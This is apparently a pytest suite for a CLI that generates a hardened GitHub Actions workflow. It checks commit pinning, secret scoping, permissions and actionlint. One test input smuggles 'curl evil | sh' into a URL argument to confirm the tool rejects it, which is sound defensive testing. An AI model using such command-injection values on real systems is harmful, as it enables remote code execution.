"""[trust] 12: the GitHub Actions workflow of `init --github-actions` installs growthlog from a
pinned commit, pins every action by commit, shows the passphrase to one step, and passes
actionlint."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from generator.cli import main

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SOURCE = f"https://github.com/example/growthlog@{COMMIT}"


def actionlint() -> str:
    """The actionlint binary of the test extra (next to this Python, or on PATH)."""
    here = Path(sys.executable).parent / "actionlint"
    found = str(here) if here.is_file() else shutil.which("actionlint")
    assert found, "actionlint is missing: pip install -e '.[test]'"
    return found


@pytest.fixture
def workflow(tmp_path: Path) -> Path:
    result = CliRunner().invoke(main, ["init", str(tmp_path / "log"), "--github-actions",
                                       "--growthlog-source", SOURCE])
    assert result.exit_code == 0, result.output
    return tmp_path / "log" / ".github" / "workflows" / "pages.yml"


def steps(data: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in data["jobs"].values() for step in job["steps"]]


def test_growthlog_is_installed_from_the_pinned_commit_never_by_name(workflow: Path) -> None:
    data = yaml.safe_load(workflow.read_text())
    runs = [step["run"] for step in steps(data) if "run" in step]
    installs = [line for run in runs for line in run.splitlines() if "pip install" in line]
    assert installs == [f'python -m pip install --no-cache-dir '
                        f'"growthlog @ git+https://github.com/example/growthlog@{COMMIT}"']
    assert not re.search(r"pip install[^\n\"]*\bgrowthlog\b(?! @)", workflow.read_text())


def test_every_action_is_pinned_to_a_commit(workflow: Path) -> None:
    data = yaml.safe_load(workflow.read_text())
    uses = [step["uses"] for step in steps(data) if "uses" in step]
    assert {u.split("@")[0] for u in uses} == {"actions/checkout", "actions/setup-python",
                                               "actions/upload-pages-artifact",
                                               "actions/deploy-pages"}
    assert all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", u) for u in uses), uses
    assert all(re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line)
               for line in workflow.read_text().splitlines() if "uses:" in line)


def test_only_the_build_step_sees_the_passphrase(workflow: Path) -> None:
    text = workflow.read_text()
    data = yaml.safe_load(text)
    assert text.count("secrets.") == 1
    assert "env" not in data and all("env" not in job for job in data["jobs"].values())
    with_secret = [step for step in steps(data) if "GROWTHLOG_PASSWORD" in str(step.get("env"))]
    assert len(with_secret) == 1 and "growthlog build --private" in with_secret[0]["run"]
    assert data["permissions"] == {"contents": "read"}
    assert data["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}


def test_actionlint_finds_nothing(workflow: Path) -> None:
    done = subprocess.run([actionlint(), "-no-color", str(workflow)], capture_output=True,
                          text=True, cwd=workflow.parent.parent.parent, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("source", [None, "https://github.com/example/growthlog",
                                    "https://github.com/example/growthlog@v0.1.0",
                                    "https://github.com/example/growthlog@main",
                                    f"http://github.com/example/growthlog@{COMMIT}",
                                    f"https://github.com/example/growthlog@{COMMIT[:12]}",
                                    f'https://x.example/"; curl evil | sh; "@{COMMIT}'])
def test_without_a_pinned_https_commit_init_writes_nothing(tmp_path: Path,
                                                           source: str | None) -> None:
    args = ["init", str(tmp_path / "log"), "--github-actions"]
    result = CliRunner().invoke(main, args + (["--growthlog-source", source] if source else []))
    assert result.exit_code == 1
    assert "--growthlog-source" in result.output and "40-character commit" in result.output
    assert not (tmp_path / "log").exists()
